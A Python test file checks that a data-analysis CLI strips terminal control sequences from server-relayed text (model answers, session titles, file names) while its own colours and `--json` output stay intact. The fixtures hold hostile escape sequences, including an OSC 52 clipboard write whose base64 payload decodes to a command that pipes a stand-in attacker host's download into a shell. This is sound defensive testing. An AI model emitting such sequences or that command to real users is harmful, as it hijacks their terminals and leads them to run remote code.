"""Attacks on the analyst's terminal through the `workbench` command (issue 40, item 2).

A step's code, the model's answer, a session's title and a file's name are text the
server only relays: whoever writes them (the model, a co-owner) may put terminal control
sequences in them: a clipboard write (OSC 52), a window title (OSC 0), a clear screen, a
C1 CSI, a carriage return that overwrites what the line said. The attack runs the real
`workbench` script in a subprocess against a live server and reads the bytes it wrote:
none of them may be a control character but a newline or a tab, in any command that
shows that text; the command's own colours still show on a colour terminal, and `--json`
keeps the text whole (escaped).
"""

from __future__ import annotations

import json
import re
import subprocess
from typing import Any

from tests.api.test_query import ask, finished
from tests.cli.test_cli import ENDS_WITHIN, WORKBENCH, Cli, cli  # noqa: F401
from tests.conftest import Api
from tests.support.llm import ScriptedLLM, code_reply, final_reply

# No NUL: PostgreSQL refuses it in text (a title or a question with one answers 500 there).
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
HOSTILE = (
    f"{CLIPBOARD}\x1b]0;pwned title\x07\x1b[2J\x1b[H\x9b31mred\x9b0m"
    "safe text\roverwritten\x08\x7f\x1bP+q\x1b\\\x90x\x9c\x05end"
)
# Every character a terminal may act on: C0 but newline and tab, DEL, C1.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
# What a colour terminal may get from the command itself: Select Graphic Rendition only.
OWN_COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def run_raw(
    cli: Cli,  # noqa: F811
    *args: str,
    colour: bool = False,
) -> tuple[int, str, str]:
    """`workbench ARGS…` with its stdout and stderr as the bytes it wrote, decoded strictly
    (text mode would turn a carriage return into a newline and hide it)."""
    env = cli.env()
    if colour:
        env.pop("NO_COLOR", None)
        env.update(FORCE_COLOR="1", TERM="xterm-256color")
    done = subprocess.run(
        [str(WORKBENCH), *args],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        env=env,
        cwd=cli.home,
        timeout=ENDS_WITHIN,
        start_new_session=True,
    )
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")


def assert_no_controls(command: str, *streams: str) -> None:
    for stream in streams:
        found = sorted({hex(ord(c)) for c in CONTROL.findall(stream)})
        assert not found, f"`workbench {command}` wrote control characters {found}: {stream!r}"


def hostile_session(alice: Api, llm: ScriptedLLM) -> tuple[dict[str, Any], str]:
    """A project with a hostile file name, a session with a hostile title, and a run whose
    output, error, artifact name and answer carry the sequences: the session and run id."""
    project = alice.project("Escapes")
    uploaded = alice.upload(project["id"], "sales\x1b]0;x\x07.csv", b"region,amount\nn,1\n")
    assert uploaded.status_code == 201, uploaded.text
    created = alice.post(f"/projects/{project['id']}/sessions", json={"title": f"Q3 {HOSTILE}"})
    assert created.status_code == 201, created.text
    session = created.json()
    llm.script(
        code_reply(
            f"hostile = {HOSTILE!r}\nprint(hostile)\n"
            "open('out\\x1b[2J\\x9b.txt', 'w').write('x')\n",
            f"Thinking {HOSTILE}",
        ),
        code_reply("raise ValueError(hostile)"),
        final_reply(f"{HOSTILE!r} + ' Done.'"),
    )
    ended = finished(ask(alice, session["id"], f"Go {HOSTILE}"))
    assert ended["status"] == "succeeded", ended
    return session, str(ended["run_id"])


def test_server_text_reaches_the_terminal_without_control_characters(
    cli: Cli,  # noqa: F811
    alice: Api,
    llm: ScriptedLLM,
) -> None:
    session, _ = hostile_session(alice, llm)
    llm.script(
        code_reply(f"print({HOSTILE!r})", f"Again {HOSTILE}"),
        final_reply(f"{HOSTILE!r} + ' Again.'"),
    )
    code, stdout, stderr = run_raw(cli, "ask", "--session", session["id"], "Once more?")
    assert code == 0, stderr
    assert "safe text" in stdout and "Again." in stdout  # the text is shown, cleaned
    assert_no_controls("ask", stdout, stderr)
    runs = alice.get(f"/sessions/{session['id']}/runs").json()["items"]
    assert len(runs) == 2
    stored = alice.get(f"/runs/{runs[0]['id']}").json()
    assert CLIPBOARD in str(stored["steps"][0]["output"])  # the attack reached the server
    project_id = session["project_id"]
    commands = [
        ("runs", "show", runs[0]["id"]),
        ("runs", "follow", runs[0]["id"]),
        ("runs", "list", session["id"]),
        ("sessions", "list", "--project", project_id),
        ("files", "list", "--project", project_id),
        ("artifacts", "list", session["id"]),
        ("runs", "show", "no-such-run"),
    ]
    for args in commands:
        code, stdout, stderr = run_raw(cli, *args)
        assert code == (1 if "no-such-run" in args else 0), (args, stderr)
        assert_no_controls(" ".join(args), stdout, stderr)
    code, stdout, _ = run_raw(cli, "runs", "show", runs[0]["id"])
    assert "safe text" in stdout and "Done." in stdout and "Error:" in stdout


def test_the_commands_own_colours_still_show_and_json_keeps_the_text(
    cli: Cli,  # noqa: F811
    alice: Api,
    llm: ScriptedLLM,
) -> None:
    _, run_id = hostile_session(alice, llm)
    code, stdout, stderr = run_raw(cli, "runs", "show", run_id, colour=True)
    assert code == 0, stderr
    assert OWN_COLOUR.search(stdout), stdout  # styled: the colours are the command's own
    assert_no_controls("runs show (colour)", OWN_COLOUR.sub("", stdout), stderr)
    code, stdout, stderr = run_raw(cli, "runs", "show", run_id, "--json")
    assert code == 0, stderr
    assert_no_controls("runs show --json", stdout, stderr)
    shown = json.loads(stdout)
    assert HOSTILE in shown["steps"][0]["output"]  # escaped in JSON, not lost
